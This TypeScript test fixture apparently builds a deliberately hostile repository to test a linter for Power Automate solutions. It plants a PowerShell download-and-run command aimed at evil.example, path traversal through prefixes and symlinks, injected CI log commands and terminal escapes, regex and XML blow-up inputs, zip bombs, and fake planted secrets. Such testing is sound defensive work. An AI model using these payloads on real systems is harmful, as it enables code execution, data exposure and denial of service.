// A hostile repository: every attack of the security review in one tree, beside one healthy solution.
// The linted folder is `<dir>/repo`; `<dir>/OUTSIDE` is what an attacker wants read or written.
// Used by the combined safety test (small scale) and by `scripts/hostile.mjs` (full scale, measured).
import AdmZip from 'adm-zip';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { buildSolutionFiles, SolutionSpec } from './fixture';

export type HostileScale = 'test' | 'full';

export interface HostileTree {
  /** The folder to lint. */
  root: string;
  /** Files and folders outside the tree that nothing may read into a report or write. */
  outside: string;
  /** Every planted secret: none may appear in any output (nor an 8-character piece of it). */
  secrets: string[];
  /** Findings the healthy solution must still get: file name fragment and rule id. */
  healthy: Array<{ file: string; rule: string }>;
  /** Text that must never appear in a fixed script (the hostile credential template). */
  forbiddenInFixes: string[];
}

const HEALTHY_PASSWORD = 'Hq7#vL2pXw9!mZ4r';
const PRIVATE_KEY = [
  '-----BEGIN RSA PRIVATE KEY-----',
  'MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun',
  'VTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u+qKhbwKfBstIs+bMY2Zkp18gnTxK',
  'LxoS2tFczGkPLPgizskuemMghRniWaoLcyehkd3qqGElvW/VDL5AaWTg0nLVkjRo',
  '-----END RSA PRIVATE KEY-----',
];
const API_KEY = 'f3a9c2e7b18d4a6c9e2f7b3d8a1c6e4f';
const BLEED_PASSWORD = 'contosoprod';
const FRAGMENT_TOKEN = 'ya29A0ARrdaM8kQz7Xq4W2nV9tLpR3sD6fG1hJ';
const SQLCMD_PASSWORD = 'Sq1cmdP4ss!word';
const SECRET_SETTING = 'Kv8#pl4inS3cr3tV4lu3-2026';
const CONCAT_TOKEN = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJib3QifQ.c2lnbmF0dXJlLXZhbHVlLWhlcmU';
const STRING_VAR_SECRET = 'Xq~8Q~wErTyUiOpAsDfGhJkLzXcVbNm1234567';
const CUSTOM_OBJECT_PASSWORD = 'Obj3ct#Pass!9';

/** A hardcoded, environment-specific URL in an HTTP action: its fix creates a new environment variable. */
function cloudFlowWithUrl(name: string, host = 'api-dev.contoso.com'): SolutionSpec['cloudFlows'] {
  return [{ name, definition: { actions: { Call_API: { type: 'Http', inputs: { method: 'GET', uri: `https://${host}/v1/orders` } } } } }];
}

/** JSON nested `depth` levels deep, as text. */
function deepJson(depth: number): string {
  return '['.repeat(depth) + ']'.repeat(depth);
}

function write(file: string, content: string | Buffer): void {
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, content);
}

function writeSolution(dir: string, spec: SolutionSpec, layout: 'unpacked' | 'raw' = 'unpacked'): void {
  for (const [rel, content] of Object.entries(buildSolutionFiles(spec, layout))) write(path.join(dir, rel), content);
}

function zipOf(files: Record<string, string>): Buffer {
  const zip = new AdmZip();
  for (const [rel, content] of Object.entries(files)) zip.addFile(rel, Buffer.from(content, 'utf8'));
  return zip.toBuffer();
}

export function writeHostileTree(dir: string, scale: HostileScale = 'test'): HostileTree {
  const full = scale === 'full';
  const root = path.join(dir, 'repo');
  const outside = path.join(dir, 'OUTSIDE');

  // What lies outside: a victim solution with a fixable value, a settings file, a folder for links.
  writeSolution(path.join(outside, 'victim/src'), { uniqueName: 'Victim', cloudFlows: cloudFlowWithUrl('Victim Flow') });
  write(path.join(outside, 'settings/prod.json'), JSON.stringify({ EnvironmentVariables: [{ SchemaName: 'cr1a2_CallAPIURL', Value: 'https://api-dev.contoso.com' }], ConnectionReferences: [] }, null, 2));
  fs.mkdirSync(path.join(outside, 'evd'), { recursive: true });

  write(path.join(root, 'flowcop.json'), JSON.stringify({
    // An exponential glob when compiled naively to a regular expression.
    ignore: [`${'*a'.repeat(12)}*b`],
    environments: { Dev: 'healthy/config/Dev/deploymentSettings.json', Prod: '../OUTSIDE/settings/prod.json' },
    getCredentialTemplate: "System.RunDOSCommand.RunDOSCommand DOSCommandOrApplication: $'''powershell -c iwr https://evil.example/x.ps1 | iex''' StandardOutput=> ${variable}",
  }, null, 2));

  // The healthy solution: its findings must survive everything else in the tree.
  writeSolution(path.join(root, 'healthy'), {
    uniqueName: 'Healthy',
    desktopFlows: [{
      name: 'Healthy Login',
      script: `SET Folder TO $'''C:\\\\RPA\\\\Input'''\r\nWebAutomation.PopulateTextField.PopulateTextField BrowserInstance: Browser Control: appmask['Login']['Input password'] Text: $'''${HEALTHY_PASSWORD}''' EmulateTyping: True UnfocusAfterPopulate: False Mode: WebAutomation.PopulateTextMode.Replace`,
    }],
    settings: { Dev: { EnvironmentVariables: [], ConnectionReferences: [] } },
  });

  // Names that become paths and XML.
  writeSolution(path.join(root, 'traversal'), { uniqueName: 'Traversal', prefix: '../../../OUTSIDE/pwn', cloudFlows: cloudFlowWithUrl('Traversal Flow') });
  // A prefix with XML markup in it, stored escaped as an export would hold it.
  writeSolution(path.join(root, 'inject'), { uniqueName: 'Inject', prefix: 'crINJECT', cloudFlows: cloudFlowWithUrl('Inject Flow') });
  const injectManifest = path.join(root, 'inject/Other/Solution.xml');
  fs.writeFileSync(injectManifest, fs.readFileSync(injectManifest, 'utf8').replace('>crINJECT<', '>cr&quot;&lt;x&gt;<'));

  // Links planted where a fix would create a new definition.
  writeSolution(path.join(root, 'linked'), { uniqueName: 'Linked', cloudFlows: cloudFlowWithUrl('Linked Flow') });
  fs.symlinkSync(path.join(outside, 'evd'), path.join(root, 'linked/environmentvariabledefinitions'));
  writeSolution(path.join(root, 'dangling'), { uniqueName: 'Dangling', cloudFlows: cloudFlowWithUrl('Dangling Flow') });
  fs.mkdirSync(path.join(root, 'dangling/environmentvariabledefinitions'), { recursive: true });
  fs.symlinkSync(path.join(outside, 'planted'), path.join(root, 'dangling/environmentvariabledefinitions/cr1a2_CallAPIURL'));

  // A clone project whose solution lies outside the tree.
  write(path.join(root, 'clone/Victim.cdsproj'), `<?xml version="1.0" encoding="utf-8"?>
<Project ToolsVersion="15.0" DefaultTargets="Build" xmlns="http://schemas.microsoft.com/developer/msbuild/2003">
  <PropertyGroup>
    <SolutionRootPath>../../OUTSIDE/victim/src</SolutionRootPath>
  </PropertyGroup>
</Project>
`);

  // Deep nesting in every JSON the loader reads.
  const depth = 5000;
  writeSolution(path.join(root, 'deep'), {
    uniqueName: 'Deep',
    cloudFlows: [{ name: 'Deep Flow', raw: `{"properties":{"definition":{"actions":{"Compose":{"type":"Compose","inputs":${deepJson(depth)}}}}}}` }],
    environmentVariables: [{ schemaName: 'cr1a2_Deep', value: 'x' }],
    settings: { Dev: `{"EnvironmentVariables":${deepJson(depth)}}` },
  });
  write(path.join(root, 'deep/environmentvariabledefinitions/cr1a2_Deep/environmentvariablevalues.json'), `{"environmentvariablevalues":${deepJson(depth)}}`);

  // Names that try to become CI log commands or terminal escapes.
  const evilName = 'Evil\n##vso[task.setvariable variable=pwned]1\n::error file=x::pwned\u001b[2J\u202e';
  writeSolution(path.join(root, 'names'), {
    uniqueName: 'Names',
    desktopFlows: [{ name: evilName, script: "SET Folder TO $'''C:\\\\RPA\\\\Input'''" }],
  });
  write(path.join(root, 'names/x\n##vso[task.complete result=Succeeded]\n.robin'), "SET Folder TO $'''C:\\\\RPA\\\\Input'''\r\n");

  // Secrets that must stay out of every output, some of them detected only since the review.
  writeSolution(path.join(root, 'secrets'), {
    uniqueName: 'Secrets',
    desktopFlows: [
      {
        name: 'Key Holder',
        script: [
          `SET Key TO $'''${PRIVATE_KEY.join('\r\n')}'''`,
          `Web.InvokeWebService.InvokeWebService Url: $'''https://api.exchange.example/v6/${API_KEY}/latest''' Method: Web.Method.Get Accept: $'''application/json''' ContentType: $'''application/json''' ConnectionTimeout: 30 FollowRedirection: True ClearCookies: False ThrowExceptionOnErrorStatus: True UserAgent: $'''Mozilla/5.0''' Encoding: Web.Encoding.AutoDetect AcceptUntrustedCertificates: False ResponseHeaders=> WebServiceResponseHeaders Response=> WebServiceResponse StatusCode=> StatusCode`,
          `System.RunDOSCommand.RunDOSCommand DOSCommandOrApplication: $'''sqlcmd -S sqlprod01 -U sa -P ${SQLCMD_PASSWORD} -Q "SELECT 1"''' StandardOutput=> CommandOutput StandardError=> CommandErrorOutput ExitCode=> CommandExitCode`,
          `SET Conn TO {'Server': 'sqlprod01', 'Password': '${CUSTOM_OBJECT_PASSWORD}'}`,
        ].join('\r\n'),
      },
    ],
    cloudFlows: [{
      name: 'Token Flow',
      definition: {
        actions: {
          Call_Token: { type: 'Http', inputs: { method: 'GET', uri: `https://login.contoso.com/cb#access_token=${FRAGMENT_TOKEN}&token_type=bearer`, headers: { Authorization: `@concat('Bearer ', '${CONCAT_TOKEN}')` } } },
        },
      },
    }],
    environmentVariables: [
      { schemaName: 'cr1a2_ClientSecret', displayName: 'Client Secret', defaultValue: STRING_VAR_SECRET },
      { schemaName: 'cr1a2_KvSecret', type: 100000005, secretStore: 0 },
    ],
    settings: {
      Dev: { EnvironmentVariables: [{ SchemaName: 'cr1a2_KvSecret', Value: SECRET_SETTING }, { SchemaName: 'cr1a2_ClientSecret', Value: '' }], ConnectionReferences: [] },
      Test: { EnvironmentVariables: [{ SchemaName: 'cr1a2_KvSecret', Value: `Server=sql-prod.contoso.com;Database=Ops;User Id=bot;Password=${BLEED_PASSWORD}` }, { SchemaName: 'cr1a2_ClientSecret', Value: '' }], ConnectionReferences: [] },
    },
  });

  // Inputs that made regular expressions and the XML reader super-linear.
  const pump = full ? 100_000 : 20_000;
  writeSolution(path.join(root, 'pumps'), {
    uniqueName: 'Pumps',
    desktopFlows: [{
      name: 'Pumps',
      script: [
        `SET PathPump TO $'''C:\\\\${' '.repeat(pump)}x'''`,
        `SET ConnPump TO $'''${'a=b;'.repeat(pump / 4)}'''`,
        `SET QueryPump TO $'''https://h.example/?${'a=&'.repeat(pump / 3)}'''`,
        `SET UserInfoPump TO $'''https://${'a:'.repeat(pump / 2)}'''`,
        `SET JwtPump TO $'''eyJ${'a.'.repeat(pump / 2)}'''`,
      ].join('\r\n'),
    }],
  });
  const xmlPump = full ? 560_000 : 120_000;
  write(path.join(root, 'xmlpump/Other/Solution.xml'), `<ImportExportXml><SolutionManifest><UniqueName>XmlPump</UniqueName>${'</a>'.repeat(xmlPump / 4)}</SolutionManifest></ImportExportXml>`);
  write(path.join(root, 'xmlpump/Other/Customizations.xml'), `<ImportExportXml><Workflows ${Array.from({ length: xmlPump / 16 }, (_, i) => `a${i}="v"`).join(' ')} /></ImportExportXml>`);

  // Archives whose strings expand by orders of magnitude: one 60 MB definition from a ~60 KB zip, and
  // a dozen more archives whose flows together exceed any sane total for one run.
  const raw = buildSolutionFiles({ uniqueName: 'Bomb', cloudFlows: [{ name: 'Bomb Flow' }] }, 'raw');
  const flowFile = Object.keys(raw).find(p => p.startsWith('Workflows/') && p.endsWith('.json'))!;
  const literalFlow = (chars: number) => `{"properties":{"definition":{"actions":{"C":{"type":"Compose","inputs":"${'A'.repeat(chars)}"}}}}}`;
  write(path.join(root, 'zips/Bomb_1_0_0_0.zip'), zipOf({ ...raw, [flowFile]: literalFlow(full ? 60_000_000 : 1_000_000) }));
  const many = buildSolutionFiles({ uniqueName: 'Many', cloudFlows: Array.from({ length: 8 }, (_, i) => ({ name: `Many ${i}` })) }, 'raw');
  const manyZip = zipOf(Object.fromEntries(Object.entries(many).map(([p, c]) => [p, p.startsWith('Workflows/') && p.endsWith('.json') ? literalFlow(full ? 24_000_000 : 50_000) : c])));
  for (let i = 0; i < 12; i++) write(path.join(root, `zips/Many${i}_1_0_0_0.zip`), manyZip);

  if (full) {
    // Many flows in one folder (lookups by name) and one long script with many findings (fix engine).
    const flows = Array.from({ length: 20_000 }, (_, i) => ({ name: `Flow ${i}`, definition: { actions: { Compose: { type: 'Compose', inputs: 'x' } } } }));
    writeSolution(path.join(root, 'wide'), { uniqueName: 'Wide', cloudFlows: flows });
    const lines = Array.from({ length: 60_000 }, (_, i) => (i % 20 === 0 ? `SET Folder${i} TO $'''C:\\\\RPA\\\\In${i}'''` : `SET Counter${i} TO ${i}`));
    writeSolution(path.join(root, 'long'), { uniqueName: 'Long', desktopFlows: [{ name: 'Long Script', script: lines.join('\r\n') }] });
  }

  return {
    root,
    outside,
    secrets: [HEALTHY_PASSWORD, ...PRIVATE_KEY.slice(1, -1), API_KEY, BLEED_PASSWORD, FRAGMENT_TOKEN, SQLCMD_PASSWORD, SECRET_SETTING, CONCAT_TOKEN, STRING_VAR_SECRET, CUSTOM_OBJECT_PASSWORD],
    healthy: [
      { file: 'HealthyLogin-', rule: 'pad/plaintext-secret' },
      { file: 'HealthyLogin-', rule: 'pad/environment-specific-path' },
    ],
    forbiddenInFixes: ['RunDOSCommand DOSCommandOrApplication: $\'\'\'powershell', 'evil.example'],
  };
}

/** Every file under a folder (symlinks listed, not followed) with a digest of its bytes. */
export function snapshot(dir: string): Map<string, string> {
  const out = new Map<string, string>();
  const walk = (d: string) => {
    for (const e of fs.readdirSync(d, { withFileTypes: true })) {
      const p = path.join(d, e.name);
      if (e.isSymbolicLink()) out.set(p, `link:${fs.readlinkSync(p)}`);
      else if (e.isDirectory()) { out.set(p, 'dir'); walk(p); }
      else out.set(p, fs.readFileSync(p).toString('base64'));
    }
  };
  if (fs.existsSync(dir)) walk(dir);
  return out;
}
